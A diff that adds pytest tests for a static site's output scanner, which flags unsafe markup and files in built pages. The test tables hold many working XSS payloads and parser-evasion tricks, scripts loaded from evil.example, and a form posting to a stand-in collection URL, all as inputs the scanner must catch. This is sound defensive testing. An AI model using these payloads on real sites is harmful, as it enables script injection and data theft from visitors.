@@ -1,0 +1,280 @@
+"""The output scan: each unsafe thing a built page or file can carry, in a small hand-written site; the real
+site passes; a build whose output fails the scan keeps the previous site."""
+
+from __future__ import annotations
+
+import hashlib
+import os
+from pathlib import Path
+
+import pytest
+
+from conftest import ROOT
+from kc import csp
+from kc.build import BuildError, build_site
+from kc.cli import main
+from kc.outputscan import Sources, scan_site
+from kc.verify import write_manifest
+
+POLICY = csp.meta_policy()
+KC_JS = "window.kc = 1;\n"
+HEAD = f'<!doctype html>\n<html><head><meta charset="utf-8">\n{csp.META_TAG}\n</head><body>\n'
+INLINE = "console.log('theme');\n"
+INLINE_PATH = f"assets/kc/inline/{hashlib.sha256(INLINE.encode()).hexdigest()[:20]}.js"
+
+
+def _site(tmp_path: Path, body: str = "", page: str = "guide/index.html", files: dict | None = None) -> Path:
+    """A site of one page (HEAD, our script on line 5, then `body` from line 6), plus `files`."""
+    site = tmp_path / "site"
+    sources = tmp_path / "src"
+    content = {
+        page: HEAD + '<script src="../assets/kc/kc.js"></script>\n' + body + "\n</body></html>\n",
+        "assets/kc/kc.js": KC_JS,
+        INLINE_PATH: INLINE,
+        **(files or {}),
+    }
+    for rel, text in content.items():
+        (site / rel).parent.mkdir(parents=True, exist_ok=True)
+        (site / rel).write_bytes(text if isinstance(text, bytes) else text.encode("utf-8"))
+    (sources / "assets/kc").mkdir(parents=True)
+    (sources / "assets/kc/kc.js").write_text(KC_JS, encoding="utf-8")
+    return site
+
+
+def _scan(site: Path, tmp_path: Path, docs: Path | None = None):
+    return scan_site(site, Sources([tmp_path / "src"], docs), "/", POLICY)
+
+
+def test_a_clean_site_passes(tmp_path):
+    site = _site(tmp_path, f'<script src="../{INLINE_PATH}"></script>\n<a href="https://www.riksdagen.se/">SFS</a>'
+                           '\n<script id="__config" type="application/json">{"a": "<b>"}</script>')
+    assert _scan(site, tmp_path) == []
+
+
+NOT_OURS = "<script src> that is not one of the site's own scripts"
+OUTSIDE = "resource from outside the site in "
+# (body written from line 6 of guide/index.html, start of the expected message). One row per rule and trick.
+PAGES = [
+    ("<script>alert(1)</script>", "inline <script>"),
+    ('<script type="text/JavaScript ">alert(1)</script>', "inline <script>"),
+    ('<script type="module">import x from "./x.js"</script>', "inline <script>"),
+    ('<script type="importmap">{}</script>', "inline <script>"),
+    ('<SCRIPT\tSRC="https://evil.example/x.js"></SCRIPT>', OUTSIDE + "<script src>"),
+    ('<script src="//evil.example/x.js"></script>', OUTSIDE + "<script src>"),
+    ('<script src="/\\evil.example/x.js"></script>', OUTSIDE + "<script src>"),
+    ('<script/src="../assets/kc/missing.js"></script>', NOT_OURS),
+    ('<script src="../../../../etc/x.js"></script>', NOT_OURS),
+    ('<script src="../docs-copy.js"></script>', NOT_OURS),
+    ('<img src="a.png" onerror="alert(1)">', "event-handler attribute onerror= on <img>"),
+    ('<IMG SRC=a.png OnError=alert(1)>', "event-handler attribute onerror= on <img>"),
+    ('<img src="a.png"\nonload=alert(1)>', "event-handler attribute onload= on <img>"),
+    ('<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>', "javascript: URL in <a xlink"),
+    ('<svg onload="alert(1)"></svg>', "event-handler attribute onload= on <svg>"),
+    ("<svg><script>alert(1)</script></svg>", "inline <script>"),
+    ('<svg><set attributeName="href" to="javascript:alert(1)"/></svg>', "SVG animation of a link target"),
+    ('<svg><animate attributeName="xlink:href" values="a;javascript:alert(1)"/></svg>', "SVG animation of"),
+    ('<a href="javascript:alert(1)">x</a>', "javascript: URL in <a href>"),
+    ('<a href="JaVa&#x09;Script&colon;alert(1)">x</a>', "javascript: URL in <a href>"),
+    ('<a href="&#x20;&#x01;javascript:alert(1)">x</a>', "javascript: URL in <a href>"),
+    ('<a href="vbscript:msgbox(1)">x</a>', "vbscript: URL in <a href>"),
+    ('<a href="data:text/html,<script>alert(1)</script>">x</a>', "data: URL in <a href>"),
+    ('<a href="file:///etc/passwd">x</a>', "file: URL in <a href>"),
+    ('<img src="data:image/svg+xml,<svg onload=alert(1)>">', "data: URL in <img src>"),
+    ('<img srcset="a.png 1x, data:image/png;base64,AAAA 2x">', "data: URL in <img srcset>"),
+    ('<form action="https://evil.example/collect"><input></form>', "<form action> sends to outside the site"),
+    ('<button formaction="//evil.example/">x</button>', "<button formaction> sends to outside the site"),
+    ('<video poster="javascript:alert(1)"></video>', "javascript: URL in <video poster>"),
+    ('<p style="background:url(https://evil.example/t.gif)">x</p>', OUTSIDE + "<p style"),
+    ('<p style="background:u\\72l(javascript:alert(1))">x</p>', "javascript: URL in <p style url()>"),
+    ("<style>@import 'https://evil.example/x.css';</style>", OUTSIDE + "<style url()>"),
+    ('<meta http-equiv="refresh" content="0; url=https://evil.example/">', "<meta> with a meta refresh"),
+    ('<meta http-equiv=" Refresh " content="0">', "<meta> with a meta refresh"),
+    ('<base href="https://evil.example/">', "<base> element"),
+    ('<object data="x.swf"></object>', "<object> element"),
+    ('<embed src="x.swf">', "<embed> element"),
+    ('<iframe src="https://evil.example/"></iframe>', "<iframe> of a page outside the site"),
+    ('<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>', "<iframe srcdoc>"),
+    ('<link rel="stylesheet" href="https://cdn.example/x.css">', OUTSIDE + "<link href>"),
+    ('<link rel="preload icon" href="//cdn.example/x.png">', OUTSIDE + "<link href>"),
+    ('<img src="http://tracker.example/p.gif">', OUTSIDE + "<img src>"),
+    ('<audio src="https://evil.example/a.mp3"></audio>', OUTSIDE + "<audio src>"),
+    ('<source srcset="https://evil.example/a.webp">', OUTSIDE + "<source srcset>"),
+    # Tokenizer differences that would hide markup from a naive parser: a browser runs all of these.
+    ("<!--><script>alert(1)</script>-->", "inline <script>"),
+    ("<!---><img src=a onerror=alert(1)>-->", "event-handler attribute onerror= on <img>"),
+    ("<!-- x --!><img src=a onerror=alert(1)>-->", "event-handler attribute onerror= on <img>"),
+    ('<script type="application/json">{}</script x><img src=a onerror=alert(1)>', "event-handler attribute"),
+    ("<![CDATA[ > <img src=a onerror=alert(1)> ]]>", "event-handler attribute onerror= on <img>"),
+]
+
+
+@pytest.mark.parametrize("body,message", PAGES, ids=[p[0][:40] for p in PAGES])
+def test_unsafe_page_is_reported_with_file_and_line(tmp_path, body, message):
+    site = _site(tmp_path, body)
+    found = _scan(site, tmp_path)
+    assert [(f.path, f.line) for f in found] == [("guide/index.html", 6)]
+    assert found[0].message.startswith(message), found[0].message
+    assert found[0].rule == "output-scan"
+
+
+@pytest.mark.parametrize("body", [
+    '<a href="https://www.riksdagen.se/x">ordinary outbound link</a>',
+    '<a href="mailto:remiss@kunskapscentrum.example">mail</a>',
+    '<link rel="canonical" href="https://kunskapscentrum.example/guide/">',
+    '<img src="../assets/images/a.png" alt="">',
+    '<p>&lt;script&gt;alert(1)&lt;/script&gt; is text</p>',
+    '<p title="onclick=x">attribute values are text</p>',
+    '<script id="__config" type="application/json">{"x": "</scrip"}</script>',
+])
+def test_harmless_markup_passes(tmp_path, body):
+    assert _scan(_site(tmp_path, body), tmp_path) == []
+
+
+def test_a_page_without_the_policy_is_reported(tmp_path):
+    site = _site(tmp_path, files={"extra.html": "<html><body><p>copied from docs/</p></body></html>"})
+    found = _scan(site, tmp_path)
+    assert [(f.path, f.line) for f in found] == [("extra.html", 1)]
+    assert "without the site's Content-Security-Policy" in found[0].message
+
+
+def test_a_weakened_policy_is_reported(tmp_path):
+    site = _site(tmp_path)
+    page = site / "guide/index.html"
+    page.write_text(page.read_text().replace("script-src 'self'", "script-src *"), encoding="utf-8")
+    found = _scan(site, tmp_path)
+    assert [(f.path, f.line) for f in found] == [("guide/index.html", 5)]
+    assert found[0].message.startswith("<script> before the site's Content-Security-Policy")
+
+
+def _docs(tmp_path: Path, files: dict[str, bytes]) -> Path:
+    docs = tmp_path / "docs"
+    for rel, data in files.items():
+        (docs / rel).parent.mkdir(parents=True, exist_ok=True)
+        (docs / rel).write_bytes(data)
+    return docs
+
+
+# (extra output file, its content, start of the expected message) at build time, where sources are known.
+FILES = [
+    ("notes.txt", b"text", "file of a type the site does not publish (.txt)"),
+    ("page.htm", b"<script>x</script>", "file of a type the site does not publish (.htm)"),
+    ("x/run", b"#!/bin/sh", "file of a type the site does not publish (no extension)"),
+    ("guide/evil.js", b"alert(1)", ".js file that is not one of the theme's or kc's assets"),
+    ("assets/kc/kc.css", b"body{}", ".css file that is not one of the theme's or kc's assets"),
+    ("assets/kc/kc.js.map", b"{}", ".map file that is not one of the theme's or kc's assets"),
+    (INLINE_PATH.replace(INLINE_PATH[-23:-3], "0" * 20), b"alert(1)", "moved inline script whose content"),
+    ("assets/search/sv.js", b"alert(1);window.kcSearch={};", "search data that is not plain data"),
+    ("en/assets/search/en-text.js", b'window.kcSearchText=window.kcSearchText||{};window.kcSearchText["en"]='
+     b"alert(1);\n", "search data that is not plain data"),
+    ("guide/photo.png", b"\x89PNG changed", "file that is not a copy of a file under docs/"),
+]
+
+
+@pytest.mark.parametrize("rel,data,message", FILES, ids=[f[0] for f in FILES])
+def test_a_file_the_build_did_not_make_is_reported(tmp_path, rel, data, message):
+    docs = _docs(tmp_path, {"sv/guide/photo.png": b"\x89PNG original"})
+    site = _site(tmp_path, files={rel: data})
+    found = _scan(site, tmp_path, docs)
+    assert [(f.path, f.line) for f in found] == [(rel, 1)]
+    assert found[0].message.startswith(message), found[0].message
+
+
+def test_copies_of_sources_and_generated_files_pass(tmp_path):
+    docs = _docs(tmp_path, {"sv/guide/photo.png": b"\x89PNG sv", "en/guide/photo.png": b"\x89PNG en",
+                            "sv/guide/report.pdf": b"%PDF-1.7"})
+    search = 'window.kcSearch=window.kcSearch||{};window.kcSearch["sv"]={"docs":[1,"<b>"]};\n'
+    site = _site(tmp_path, files={
+        "guide/photo.png": b"\x89PNG sv", "en/guide/photo.png": b"\x89PNG en",
+        "en/guide/report.pdf": b"%PDF-1.7",  # the English site falls back to the Swedish file
+        "assets/search/sv.js": search, "feed.xml": '<feed><link rel="self" href="https://k.example/"/></feed>',
+        "sitemap.xml": "<urlset/>", "guidelines/housing/matrix-sv.csv": "a;b",
+    })
+    assert _scan(site, tmp_path, docs) == []
+
+
+def test_svg_with_a_script_is_reported(tmp_path):
+    site = _site(tmp_path, files={"guide/a.svg": '<svg xmlns="http://www.w3.org/2000/svg">\n'
+                                                 '<script href="../assets/kc/kc.js"/></svg>'})
+    found = scan_site(site, None, "/", POLICY)
+    assert [(f.path, f.line) for f in found] == [("guide/a.svg", 2)]
+    assert found[0].message.startswith("<script> in an SVG image")
+
+
+def test_feed_text_is_read_as_the_html_it_becomes(tmp_path):
+    site = _site(tmp_path, files={"feed.xml": "<feed>\n<entry>\n<summary>&lt;img src=x onerror=alert(1)&gt;"
+                                              "</summary></entry></feed>"})
+    found = _scan(site, tmp_path)
+    assert [(f.path, f.line) for f in found] == [("feed.xml", 3)]
+    assert found[0].message.startswith("in the feed's text: event-handler attribute onerror=")
+
+
+def test_links_and_special_files_are_reported_never_followed(tmp_path):
+    secret = tmp_path / "secret.txt"
+    secret.write_text("TOKEN", encoding="utf-8")
+    site = _site(tmp_path)
+    (site / "env.html").symlink_to(secret)
+    (site / "root").symlink_to("/")
+    os.mkfifo(site / "pipe.png")
+    found = _scan(site, tmp_path)
+    assert [(f.path, f.message.split(";")[0]) for f in found] == [
+        ("env.html", "symbolic link in the output"),
+        ("pipe.png", "special file (device, FIFO or socket) in the output"),
+        ("root", "symbolic link in the output"),
+    ]
+
+
+def test_edition_without_sources_checks_types_and_folders(tmp_path):
+    site = _site(tmp_path, files={"assets/javascripts/bundle.js": "x", "guide/x.js": "alert(1)"})
+    found = scan_site(site, None, "./")
+    assert [(f.path, f.message.split(";")[0]) for f in found] == [
+        ("guide/x.js", ".js file outside the theme's and kc's asset folders")]
+
+
+def test_the_real_site_passes_and_the_scan_is_cheap(real_site):
+    import time
+
+    from mkdocs.config import load_config
+
+    config = load_config(str(real_site.parent / "mkdocs.yml"))
+    sources = Sources([Path(d) for d in config.theme.dirs] + [ROOT / "tools/kc"], real_site.parent / "docs")
+    start = time.perf_counter()
+    assert scan_site(real_site, sources, "/", POLICY) == []
+    assert time.perf_counter() - start < 5  # about 0.3 s on a laptop for the whole bilingual site
+
+
+def _snapshot(folder: Path) -> dict[str, bytes]:
+    files = sorted(p for p in folder.rglob("*") if p.is_file())
+    return {p.relative_to(folder).as_posix(): p.read_bytes() for p in files}
+
+
+def test_a_build_failing_the_scan_keeps_the_previous_site(site_copy):
+    root = site_copy("basic")
+    build_site(root)  # the fixture site passes the scan
+    before = _snapshot(root / "site")
+    main_html = root / "overrides/main.html"
+    hostile = '{% block extrahead %}<link rel="stylesheet" href="https://cdn.example/x.css">{% endblock %}'
+    main_html.write_text(main_html.read_text(encoding="utf-8") + f"\n{hostile}\n", encoding="utf-8")
+    with pytest.raises(BuildError) as caught:
+        build_site(root)
+    text = str(caught.value)
+    assert "failed the output scan" in text and "the previous site was kept" in text
+    assert "site/index.html:" in text and "(made from docs/sv/index.md): " + OUTSIDE in text
+    assert _snapshot(root / "site") == before
+    assert [p.name for p in root.iterdir() if p.name.startswith(".site")] == []
+
+
+def test_kc_verify_reports_a_script_injected_into_an_edition(tmp_path, capsys):
+    folder = tmp_path / "unpacked" / "kunskapscentrum-2026-11-24-abc1234"
+    _site(folder.parent, files={"edition.json": "{}"}).rename(folder)
+    page = folder / "guide/index.html"
+    text = page.read_text(encoding="utf-8")
+    page.write_text(text.replace("<body>\n", '<body>\n<img src=x onerror="alert(1)">'), encoding="utf-8")
+    write_manifest(folder)  # the forger rewrote the manifest to match: the manifest alone says all is well
+    code = main(["--root", str(ROOT), "verify", str(folder)])
+    out, err = capsys.readouterr()
+    assert code == 1
+    assert out.splitlines() == [
+        "unsafe: guide/index.html:5: event-handler attribute onerror= on <img>; scripts "
+        "belong in the site's own assets, remove the attribute"
+    ]
+    assert "1 unsafe thing(s)" in err and "do not publish this edition" in err
